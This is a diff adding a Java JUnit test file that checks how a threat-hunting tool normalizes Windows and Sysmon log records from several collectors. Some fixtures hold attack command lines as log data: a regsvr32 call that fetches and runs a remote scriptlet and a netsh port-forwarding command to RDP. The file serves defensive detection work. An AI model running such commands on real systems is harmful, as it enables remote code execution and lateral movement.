@@ -1,0 +1,186 @@
+package org.huntindex.normalize;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNull;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.time.Instant;
+import java.util.List;
+import org.huntindex.schema.Field;
+import org.huntindex.source.RawRecord;
+import org.junit.jupiter.api.Test;
+
+class NormalizerTest {
+  private final Normalizer normalizer = new Normalizer();
+
+  private static RawRecord json(Object... pairs) {
+    RawRecord r = new RawRecord("json", "t.json", 7);
+    for (int i = 0; i < pairs.length; i += 2) {
+      r.add((String) pairs[i], pairs[i + 1]);
+    }
+    return r;
+  }
+
+  private static long ticks(String iso) {
+    return Ticks.of(Instant.parse(iso));
+  }
+
+  private static boolean hasRaw(Event e, String name, String value) {
+    for (int i = 0; i < e.rawSize(); i++) {
+      if (e.rawName(i).equals(name) && e.rawValue(i).equals(value)) {
+        return true;
+      }
+    }
+    return false;
+  }
+
+  @Test
+  void sentinelSecurityEventRowKeepsItsProcessAndAccountColumns() {
+    Event e = normalizer.normalize(json("EventID", 4688L, "Process", "C:\\Windows\\System32\\cmd.exe",
+        "CommandLine", "cmd.exe /c ping 8.8.8.80", "Computer", "WS1.contoso.com", "Account", "CONTOSO\\alice",
+        "TimeGenerated", "2024-05-01T10:00:00Z"));
+    assertEquals("sentinel", e.string(Field.INPUT_TYPE));
+    assertEquals("Security", e.string(Field.WINLOG_CHANNEL));
+    assertEquals(4688L, e.number(Field.EVENT_CODE));
+    assertEquals("C:\\Windows\\System32\\cmd.exe", e.string(Field.KQL_PROCESS));
+    assertEquals("cmd.exe", e.string(Field.PROCESS_NAME));
+    assertEquals("CONTOSO\\alice", e.string(Field.KQL_ACCOUNT));
+    assertEquals("WS1.contoso.com", e.string(Field.HOST_NAME));
+    assertEquals(ticks("2024-05-01T10:00:00Z"), e.number(Field.TIMESTAMP));
+    assertEquals("8.8.8.80", e.string(Field.KQL_IP));
+    assertEquals("windows", e.string(Field.HOST_OS_TYPE));
+    assertEquals(7L, e.number(Field.LOG_FILE_LINE));
+    assertEquals("t.json", e.string(Field.LOG_FILE_PATH));
+  }
+
+  @Test
+  void stringEventIdIsAccepted() {
+    Event e = normalizer.normalize(json("EventID", "4688", "Computer", "h", "TimeGenerated", "2024-05-01T10:00:00Z"));
+    assertEquals(4688L, e.number(Field.EVENT_CODE));
+  }
+
+  @Test
+  void nxlogSecurity4688UsesTheEventHostNotTheCollector() {
+    Event e = normalizer.normalize(json("EventID", 4688L, "Channel", "Security", "Hostname",
+        "WORKSTATION5.mordor.local", "host", "wec.internal.cloudapp.net", "@timestamp", "2020-07-22T03:27:53.590Z",
+        "EventTime", "2020-07-21 23:27:52", "SubjectUserName", "pgustavo", "SubjectDomainName", "MORDOR",
+        "NewProcessName", "C:\\Windows\\System32\\regsvr32.exe", "NewProcessId", "0x24a8", "ProcessId", "0x21c8",
+        "CommandLine", "\"C:\\windows\\system32\\regsvr32.exe\" /s /i:http://10.10.10.5:8444/launcher.sct scrobj.dll",
+        "ParentProcessName", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "RecordNumber",
+        253299L));
+    assertEquals("nxlog", e.string(Field.INPUT_TYPE));
+    assertEquals("WORKSTATION5.mordor.local", e.string(Field.HOST_NAME));
+    assertEquals(ticks("2020-07-22T03:27:53.590Z"), e.number(Field.TIMESTAMP));
+    assertEquals("regsvr32.exe", e.string(Field.KQL_PROCESS));
+    assertEquals("MORDOR\\pgustavo", e.string(Field.KQL_ACCOUNT));
+    assertEquals(0x24a8L, e.number(Field.PROCESS_PID));
+    assertEquals(0x21c8L, e.number(Field.PARENT_PID));
+    assertEquals("powershell.exe", e.string(Field.PARENT_NAME));
+    assertEquals(253299L, e.number(Field.WINLOG_RECORD_ID));
+    assertEquals(List.of("process"), e.all(Field.EVENT_CATEGORY));
+    assertTrue(hasRaw(e, "EventTime", "2020-07-21 23:27:52"));
+    assertTrue(hasRaw(e, "host", "wec.internal.cloudapp.net"));
+  }
+
+  @Test
+  void sysmonTimeIsUtcTimeAndTheZeroGuidIsDropped() {
+    Event e = normalizer.normalize(json("EventID", 1L, "Channel", "Microsoft-Windows-Sysmon/Operational",
+        "Hostname", "WS5", "TimeCreated", "2021-06-11T09:07:15.635Z", "UtcTime", "2021-06-12 01:07:15.633",
+        "ProcessGuid", "{00000000-0000-0000-0000-000000000000}", "Image", "C:\\Windows\\System32\\PING.EXE",
+        "User", "WS5\\apt", "CommandLine", "ping -n 3 127.0.0.1"));
+    assertEquals(ticks("2021-06-12T01:07:15.633Z"), e.number(Field.TIMESTAMP));
+    assertNull(e.get(Field.PROCESS_ENTITY_ID));
+    assertEquals("PING.EXE", e.string(Field.PROCESS_NAME));
+    assertEquals("apt", e.string(Field.USER_NAME));
+    assertEquals("WS5", e.string(Field.USER_DOMAIN));
+    assertEquals(List.of("start"), e.all(Field.EVENT_TYPE));
+    assertNull(e.get(Field.KQL_PROCESS));
+  }
+
+  @Test
+  void winlogbeatLegacySysmonNetworkMapsDestinationAndComputer() {
+    Event e = normalizer.normalize(json("@timestamp", "2019-05-18T20:19:21.130Z", "host.name", "WECserver",
+        "computer_name", "HR001.shire.com", "log_name", "Microsoft-Windows-Sysmon/Operational", "event_id", 3L,
+        "record_number", "2187870", "event_data.UtcTime", "2019-05-07 11:32:37.933", "event_data.ProcessGuid",
+        "{03ba39f5-50b2-5ce0-0000-00109995c501}", "event_data.Image",
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "event_data.DestinationIp", "10.0.10.106",
+        "event_data.DestinationPort", "443", "event_data.Initiated", "true", "event_data.Protocol", "tcp"));
+    assertEquals("winlogbeat", e.string(Field.INPUT_TYPE));
+    assertEquals("HR001.shire.com", e.string(Field.HOST_NAME));
+    assertEquals("10.0.10.106", e.string(Field.DESTINATION_IP));
+    assertEquals(443L, e.number(Field.DESTINATION_PORT));
+    assertEquals("egress", e.string(Field.NETWORK_DIRECTION));
+    assertEquals(List.of("start", "connection", "protocol"), e.all(Field.EVENT_TYPE));
+    assertEquals(ticks("2019-05-07T11:32:37.933Z"), e.number(Field.TIMESTAMP));
+    assertEquals("{03ba39f5-50b2-5ce0-0000-00109995c501}", e.string(Field.PROCESS_ENTITY_ID));
+    assertEquals(2187870L, e.number(Field.WINLOG_RECORD_ID));
+  }
+
+  @Test
+  void sentinelWindowsEventParsesEventDataJson() {
+    Event e = normalizer.normalize(json("TimeGenerated", "2022-05-13T08:54:06.347Z", "Provider",
+        "Microsoft-Windows-Sysmon", "Channel", "Microsoft-Windows-Sysmon/Operational", "Computer", "WORKSTATION5",
+        "EventData", "{\"UtcTime\":\"2022-05-13T08:54:05.1230000Z\",\"ProcessGuid\":\"{f3329a35}\","
+            + "\"Image\":\"C:\\\\x\\\\tomcat9.exe\",\"DestinationIp\":\"192.168.2.5\",\"QueryName\":null}",
+        "EventID", 3L, "Type", "WindowsEvent"));
+    assertEquals("Microsoft-Windows-Sysmon/Operational", e.string(Field.WINLOG_CHANNEL));
+    assertEquals("tomcat9.exe", e.string(Field.PROCESS_NAME));
+    assertEquals("192.168.2.5", e.string(Field.DESTINATION_IP));
+    assertEquals(ticks("2022-05-13T08:54:05.123Z"), e.number(Field.TIMESTAMP));
+  }
+
+  @Test
+  void sentinelSecurityEventParsesEventDataXml() {
+    Event e = normalizer.normalize(json("TimeGenerated", "2022-05-13T08:54:05.21Z", "Computer", "WORKSTATION5",
+        "Channel", "Security", "EventID", 5156L, "EventData",
+        "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\r\n  <Data Name=\"ProcessID\">3936"
+            + "</Data>\r\n  <Data Name=\"Application\">\\device\\harddiskvolume2\\x\\tomcat9.exe</Data>\r\n"
+            + "  <Data Name=\"Direction\">%%14592</Data><Data Name=\"DestAddress\">192.168.2.5</Data>"
+            + "<Data Name=\"Protocol\">6</Data></EventData>"));
+    assertEquals("tomcat9.exe", e.string(Field.PROCESS_NAME));
+    assertEquals(3936L, e.number(Field.PROCESS_PID));
+    assertEquals("ingress", e.string(Field.NETWORK_DIRECTION));
+    assertEquals("tcp", e.string(Field.NETWORK_TRANSPORT));
+    assertEquals("192.168.2.5", e.string(Field.DESTINATION_IP));
+    assertEquals(List.of("network"), e.all(Field.EVENT_CATEGORY));
+  }
+
+  @Test
+  void evtxDumpJsonIsReadLikeTheNativeReader() {
+    Event e = normalizer.normalize(json("Event.#attributes.xmlns", "http://schemas.microsoft.com/win/2004/08/events/event",
+        "Event.System.Provider.#attributes.Name", "Microsoft-Windows-Security-Auditing", "Event.System.EventID", 4688L,
+        "Event.System.TimeCreated.#attributes.SystemTime", "2021-06-03T12:17:58.582712Z",
+        "Event.System.EventRecordID", 1953363L, "Event.System.Channel", "Security", "Event.System.Computer",
+        "fs01.offsec.lan", "Event.EventData.NewProcessName", "C:\\Windows\\System32\\netsh.exe",
+        "Event.EventData.CommandLine", "netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1",
+        "Event.EventData.SubjectUserName", "admin", "Event.EventData.SubjectDomainName", "OFFSEC"));
+    assertEquals("evtx_dump", e.string(Field.INPUT_TYPE));
+    assertEquals("fs01.offsec.lan", e.string(Field.HOST_NAME));
+    assertEquals(ticks("2021-06-03T12:17:58.582712Z"), e.number(Field.TIMESTAMP));
+    assertEquals(1953363L, e.number(Field.WINLOG_RECORD_ID));
+    assertEquals("netsh.exe", e.string(Field.KQL_PROCESS));
+    assertEquals("OFFSEC\\admin", e.string(Field.KQL_ACCOUNT));
+  }
+
+  @Test
+  void ecsDocumentsKeepTheirOwnFieldsAndInferNothingAboutTheOs() {
+    Event e = normalizer.normalize(json("@timestamp", 2000L, "event.id", "n1", "event.category", List.of("network"),
+        "event.type", List.of("connection", "protocol", "info"), "process.executable", "C:\\Windows\\cmd.exe",
+        "process.entity_id", "{A}", "dns.question.name", "evil.example.com"));
+    assertEquals("ecs", e.string(Field.INPUT_TYPE));
+    assertEquals(2000L * Ticks.PER_MILLI, e.number(Field.TIMESTAMP));
+    assertEquals("cmd.exe", e.string(Field.PROCESS_NAME));
+    assertEquals(List.of("connection", "protocol", "info"), e.all(Field.EVENT_TYPE));
+    assertFalse(e.has(Field.HOST_OS_TYPE));
+    assertEquals("n1", e.string(Field.EVENT_ID));
+  }
+
+  @Test
+  void unknownShapesKeepEveryFieldRaw() {
+    Event e = normalizer.normalize(json("foo", "bar", "n", 3L));
+    assertEquals("json", e.string(Field.INPUT_TYPE));
+    assertTrue(hasRaw(e, "foo", "bar"));
+    assertTrue(hasRaw(e, "n", "3"));
+  }
+}
